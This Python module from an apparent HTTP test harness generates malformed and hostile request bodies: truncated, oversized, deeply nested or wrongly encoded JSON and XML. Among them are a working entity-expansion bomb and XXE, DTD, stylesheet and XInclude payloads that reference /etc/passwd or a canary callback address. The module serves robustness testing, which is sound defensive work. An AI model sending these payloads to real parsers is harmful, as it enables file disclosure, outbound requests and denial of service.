"""Bodies that no sensible client sends: broken, bottomless, exploding, reaching out, wrongly encoded."""

from __future__ import annotations

import gzip
from collections.abc import Callable, Mapping
from random import Random
from typing import Final

from harness.contract import is_xml

Body = Callable[[Random, bytes, str], tuple[bytes, str]]
"""From a draw, a good body and its media type to a hostile body and what it is said to be."""

_LARGEST: Final = 2 * 1024 * 1024
_DEEPEST: Final = 20_000
_ENTITIES: Final = '<!DOCTYPE a [<!ENTITY e0 "ha">{}]>\n<a>&e9;</a>'
_FILE: Final = "file:///etc/passwd"
ODD_JSON: Final = (
    b"NaN",
    b"1e999",
    b'{"a":1,"a":2}',
    b'"\\ud800"',
    b"9" * 5000,
    b"null",
    b"\xef\xbb\xbf{}",
    b"[]",
)
"""Texts that one reader of JSON takes and another does not."""
ODD_XML: Final = (
    b'<?xml version="1.0" encoding="klingon"?><a/>',
    b"<a><![CDATA[" + b"]]" * 5000,
    b"<a " + b" ".join(b'a%d="1"' % n for n in range(3000)) + b"/>",
    b"<a>" + b"&#38;" * 5000 + b"</a>",
    b"<x:a/>",
    b"<a>\x00</a>",
    b"<a></b>",
)
"""The same of XML."""
_ENCODINGS: Final = ("utf-16", "utf-32", "utf-7", "cp037", "shift_jis")


def hostile_body(random: Random, good: bytes, media: str, canary: str) -> tuple[bytes, str]:
    """Return a hostile body and the media type that it is sent as.

    ``canary`` is an address at which nobody may ever call: documents name it as something to fetch.
    """
    kind = random.choice([*_ANY, *(_XML if is_xml(media) or random.random() < 0.2 else _JSON)])
    body, said = _KINDS[kind](random, good, media)
    return body.replace(b"{canary}", canary.encode()), said


def _truncated(random: Random, good: bytes, media: str) -> tuple[bytes, str]:
    return good[: random.randrange(len(good) + 1)], media


def _scrambled(random: Random, good: bytes, media: str) -> tuple[bytes, str]:
    """Change a few bytes anywhere."""
    body = bytearray(good or b"{}")
    for _ in range(random.randint(1, 4)):
        body[random.randrange(len(body))] = random.randrange(256)
    return bytes(body), media


def _encoded(random: Random, good: bytes, media: str) -> tuple[bytes, str]:
    encoding = random.choice(_ENCODINGS)
    text = good.decode("utf-8", "replace")
    said = random.choice(["", "; charset=utf-8", f"; charset={encoding}", "; charset=klingon"])
    return text.encode(encoding, "replace"), media + said


def _huge(random: Random, good: bytes, media: str) -> tuple[bytes, str]:
    # Seldom: a megabyte takes as long as a thousand others.
    size = random.choice([4096, 65_536, 65_536, _LARGEST if random.random() < 0.02 else 4096])
    return (good + b" " * size if random.random() < 0.5 else b"A" * size), media


def _packed(_random: Random, good: bytes, media: str) -> tuple[bytes, str]:
    return gzip.compress(good * 50, mtime=0), media


def _mislabelled(random: Random, good: bytes, _media: str) -> tuple[bytes, str]:
    others = ("text/xml", "application/xml", "application/json", "text/plain", "x/y", "garbage", "a/b;c")
    return good, random.choice(others)


def _deep_json(random: Random, _good: bytes, _media: str) -> tuple[bytes, str]:
    depth = random.randint(100, _DEEPEST)
    ends = (b"[", b"]") if random.random() < 0.5 else (b'{"a":', b"}")
    inner = b"1" if ends[0] != b"[" else b""
    return ends[0] * depth + inner + ends[1] * random.choice([depth, 0]), "application/json"


def _odd_json(random: Random, _good: bytes, media: str) -> tuple[bytes, str]:
    return random.choice(ODD_JSON), media if "json" in media else "application/json"


def _deep_xml(random: Random, _good: bytes, media: str) -> tuple[bytes, str]:
    depth = random.randint(100, _DEEPEST)
    return b"<a>" * depth + b"</a>" * random.choice([depth, 0]), _xml(media)


def _bomb(_random: Random, _good: bytes, media: str) -> tuple[bytes, str]:
    """Write nine entities, each ten times the one before: a gigabyte, if anybody counts."""
    grown = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return _ENTITIES.format(grown).encode(), _xml(media)


def _reaching(random: Random, _good: bytes, media: str) -> tuple[bytes, str]:
    """Name something outside to be fetched: a file, or an address that tells who called."""
    where = random.choice([_FILE, "{canary}/entity", "{canary}/entity.dtd"])
    form = random.choice(
        [
            f'<!DOCTYPE a [<!ENTITY x SYSTEM "{where}">]><a>&x;</a>',
            f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{where}"> %x;]><a/>',
            f'<!DOCTYPE a SYSTEM "{where}"><a/>',
            f'<?xml-stylesheet href="{where}"?><a/>',
            f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{where}" parse="text"/></a>',
        ]
    )
    return form.encode(), _xml(media)


def _odd_xml(random: Random, _good: bytes, media: str) -> tuple[bytes, str]:
    return random.choice(ODD_XML), _xml(media)


def _xml(media: str) -> str:
    return media if is_xml(media) else "application/xml"


_ANY: Final = ("truncated", "scrambled", "encoded", "huge", "packed", "mislabelled")
_JSON: Final = ("deep-json", "odd-json")
_XML: Final = ("deep-xml", "bomb", "reaching", "odd-xml")
_KINDS: Final[Mapping[str, Body]] = {
    "truncated": _truncated,
    "scrambled": _scrambled,
    "encoded": _encoded,
    "huge": _huge,
    "packed": _packed,
    "mislabelled": _mislabelled,
    "deep-json": _deep_json,
    "odd-json": _odd_json,
    "deep-xml": _deep_xml,
    "bomb": _bomb,
    "reaching": _reaching,
    "odd-xml": _odd_xml,
}
